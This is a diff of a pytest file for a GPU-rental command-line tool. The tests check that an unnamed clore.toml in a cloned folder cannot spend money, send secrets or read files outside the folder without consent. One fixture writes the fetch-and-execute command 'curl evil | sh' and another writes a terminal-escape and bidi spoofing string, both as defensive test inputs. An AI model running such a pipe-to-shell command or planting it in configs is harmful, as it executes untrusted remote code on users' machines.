@@ -1,4 +1,4 @@
-"""`clore.toml`: what it holds, and what it may not say where nobody named it."""
+"""`clore.toml`: which options it holds, and what it may not set unless the user named it."""
 
 from __future__ import annotations
 
@@ -24,14 +24,14 @@ RUNS = 'command = "true"\n'
 
 @pytest.fixture
 def folder(tmp_path: Path) -> Path:
-    """A working folder, as of a repository that was cloned."""
+    """A working folder, such as a cloned repository."""
     made = tmp_path / "cloned"
     made.mkdir()
     return made
 
 
 def here(user: Clore, folder: Path, *words: object, fails: int = 0, **env: str) -> Result:
-    """`clore run` in the folder, without a terminal."""
+    """`clore run` in that folder, without a terminal."""
     process = user.start("run", *words, cwd=folder, env=env)
     try:
         out, err = process.communicate(timeout=30)
@@ -43,8 +43,8 @@ def here(user: Clore, folder: Path, *words: object, fails: int = 0, **env: str) 
     return Result(process.returncode, out, err)
 
 
-def test_a_job_file_holds_the_options_and_flags_win(renter: Renter, folder: Path) -> None:
-    """clore.toml of this folder; --file names another; a wrong key is told the right one."""
+def test_a_job_file_holds_options_and_flags_override_it(renter: Renter, folder: Path) -> None:
+    """clore.toml of this folder is read; --file names another; an unknown key gets a suggestion."""
     order = renter.rent()
     file = folder / "clore.toml"
     file.write_text(
@@ -77,8 +77,8 @@ def test_a_job_file_holds_the_options_and_flags_win(renter: Renter, folder: Path
     assert "no such file" in here(renter, folder, "--file", "no.toml", fails=2).err
 
 
-def test_every_option_is_sorted() -> None:
-    """Each option of `run` is free, the plan's to ask, asked about, or never in a file."""
+def test_every_option_has_a_trust_level() -> None:
+    """Each `run` option is free, covered by the plan's question, asked about, or banned."""
     groups = (trust.FREE, trust.PRICED, set(trust.ASKED), trust.NEVER - {"file"})
     names = {str(each.name) for each in command.params if each.expose_value}
     assert sorted(names) == sorted(name for group in groups for name in group)
@@ -102,22 +102,20 @@ ASKED = {
 
 
 @pytest.mark.parametrize("name", trust.ASKED)
-def test_a_file_that_nobody_named_spends_and_sends_nothing(
-    nobody: Clore, folder: Path, name: str
-) -> None:
-    """Each such line is shown as it stands, and refused where there is no terminal: exit 2.
+def test_an_unnamed_file_cannot_spend_or_send(new_user: Clore, folder: Path, name: str) -> None:
+    """Each such line is shown as written and, without a terminal, refused with exit 2.
 
-    `--yes` does not answer that; the message says what does.
+    `--yes` does not allow these lines; the message names the option that does.
     """
     (folder / "clore.toml").write_text(f"{RUNS}{ASKED[name]}\n")
     for words in [("--yes",), ()][name == "yes" :]:
-        done = here(nobody, folder, *words, fails=2, HF_TOKEN="hf_1")
+        done = here(new_user, folder, *words, fails=2, HF_TOKEN="hf_1")
         assert f"\n  {ASKED[name]}   (" in done.err
         assert "name it: --file clore.toml" in done.err.splitlines()[-1]
 
 
-def test_values_of_the_file_and_typed_options_are_free(renter: Renter, folder: Path) -> None:
-    """A variable with a value is not asked about, nor is what is typed as well."""
+def test_values_in_the_file_and_typed_options_are_free(renter: Renter, folder: Path) -> None:
+    """A variable with a value needs no question, nor does an option that is typed as well."""
     file = folder / "clore.toml"
     file.write_text(
         f'{RUNS}env = {{SEED = "7"}}\nmax-cost = 2\nsetup = "true"\noutput = ["o"]\nkeep = false\n'
@@ -134,33 +132,33 @@ def test_values_of_the_file_and_typed_options_are_free(renter: Renter, folder: P
 @pytest.mark.parametrize(
     "line", ['gpu = ["H200"]', 'lease = "none"', "attempts = 99", "spot = true"]
 )
-def test_yes_does_not_agree_to_a_machine_of_the_files_choice(
+def test_yes_does_not_accept_the_files_choice_of_machine(
     renter: Renter, folder: Path, line: str
 ) -> None:
-    """The plan's question covers what is rented; where --yes answers it, the file must be named."""
+    """The plan's question covers what is rented; with --yes the file must be named."""
     (folder / "clore.toml").write_text(f"{RUNS}{line}\n")
     done = here(renter, folder, "--yes", fails=2)
     assert f"\n  {line}   (" in done.err
     assert "--file clore.toml" in done.err
-    # Where nothing is rented, there is nothing to choose.
+    # If nothing is rented, there is nothing to choose.
     assert "agree" not in here(renter, folder, "--order", 7, "--yes", fails=4).err
 
 
-def test_another_folder_is_not_the_files_to_use(renter: Renter, folder: Path) -> None:
-    """With --folder elsewhere, even the command of a file that nobody named is asked about."""
+def test_the_file_may_not_use_another_folder(renter: Renter, folder: Path) -> None:
+    """With --folder elsewhere, even the command of a file that was not named needs consent."""
     cwd = folder / "cwd"
     (cwd / "sub").mkdir(parents=True)
     (cwd / "clore.toml").write_text(RUNS)
     done = here(renter, cwd, *NONE, "--folder", "..", fails=2)
     assert '\n  command = "true"   (' in done.err
-    (folder / "clore.toml").write_text("keep = true\n")  # the one of --folder is not read
+    (folder / "clore.toml").write_text("keep = true\n")  # The file in --folder is not read.
     here(renter, cwd, *NONE, "--folder", "..", "--file", "clore.toml", fails=6)
     for inside in (cwd, "sub"):
         assert "agree" not in here(renter, cwd, *NONE, "--folder", inside, fails=6).err
 
 
-def test_a_named_file_may_say_anything_from_anywhere(renter: Renter, folder: Path) -> None:
-    """No question, not even from a pipe, as ``--file <(…)`` makes one; /dev/null is none at all."""
+def test_a_named_file_may_set_anything(renter: Renter, folder: Path) -> None:
+    """There is no question, not even for a pipe as in ``--file <(…)``; /dev/null means no file."""
     (folder / "clore.toml").write_text(f'{RUNS}yes = true\nkeep = true\nenv = ["HOME"]\n')
     assert "toml" not in here(renter, folder, *NONE[:2], "--file", "clore.toml", fails=6).err
     read, write = os.pipe()
@@ -175,8 +173,8 @@ def test_a_named_file_may_say_anything_from_anywhere(renter: Renter, folder: Pat
     assert "No command was given" in here(renter, folder, "--file", os.devnull, fails=2).err
 
 
-def test_the_command_is_shown_before_anything_is_rented(renter: Renter, folder: Path) -> None:
-    """What the file would run stands above the plan, also where it is the plan that is refused."""
+def test_the_command_is_shown_before_the_plan(renter: Renter, folder: Path) -> None:
+    """The command from the file is printed above the plan, also if the plan is refused."""
     (folder / "clore.toml").write_text('command = ["sh", "-c", "curl evil | sh"]\ngpu = "RTX"\n')
     err = here(renter, folder, "--currency", "USD", fails=2).err
     assert '  command = ["sh", "-c", "curl evil | sh"]\n  gpu = ["RTX"]\n' in err
@@ -185,10 +183,10 @@ def test_the_command_is_shown_before_anything_is_rented(renter: Renter, folder: 
     assert renter.orders() == []
 
 
-def test_the_question_on_a_terminal(
+def test_a_terminal_asks_about_the_lines(
     renter: Renter, folder: Path, terminal: Callable[..., Terminal]
 ) -> None:
-    """It shows the lines as text, and No, the default, ends it: exit 1. Yes goes on as they say."""
+    """The lines are shown as text; No, the default, exits with 1, and Yes goes on."""
     order = renter.rent()
     (folder / "clore.toml").write_text(
         f'order = {order}\nenv = ["HF_TOKEN"]\nref = "\\u001b[2J\\u202eevil"\n'
@@ -209,12 +207,12 @@ def test_the_question_on_a_terminal(
     assert "\n.hf_12.\n" in screen.wait("end=0")
 
 
-def test_a_file_that_is_none_is_a_sentence(nobody: Clore, folder: Path) -> None:
-    """A FIFO, a device, a link out of the folder, what is too long or too deep: exit 2, now."""
+def test_an_unreadable_file_is_refused_at_once(new_user: Clore, folder: Path) -> None:
+    """A FIFO, a device, a link out of the folder, a huge or too deep file: exit 2 without delay."""
     file = folder / "clore.toml"
 
     def refused(said: str) -> None:
-        err = here(nobody, folder, "--order", 7, "--", "true", fails=2).err
+        err = here(new_user, folder, "--order", 7, "--", "true", fails=2).err
         assert said in err
         assert len(err) < 1_000
         assert err.replace("\n", "").isprintable()
@@ -226,7 +224,7 @@ def test_a_file_that_is_none_is_a_sentence(nobody: Clore, folder: Path) -> None:
     file.mkdir()
     refused("Is a directory")
     file.rmdir()
-    for target in ("/dev/zero", "../outside.toml", str(nobody.home / "config.toml")):
+    for target in ("/dev/zero", "../outside.toml", str(new_user.home / "config.toml")):
         file.symlink_to(target)
         refused("link out of this folder")
         file.unlink()
@@ -254,4 +252,4 @@ def test_a_file_that_is_none_is_a_sentence(nobody: Clore, folder: Path) -> None:
     (folder / "real.toml").write_text("max-hours = 2\n")
     file.unlink()
     file.symlink_to("real.toml")
-    assert "From clore.toml:\n  max-hours = 2\n" in here(nobody, folder, "--", "", fails=2).err
+    assert "From clore.toml:\n  max-hours = 2\n" in here(new_user, folder, "--", "", fails=2).err
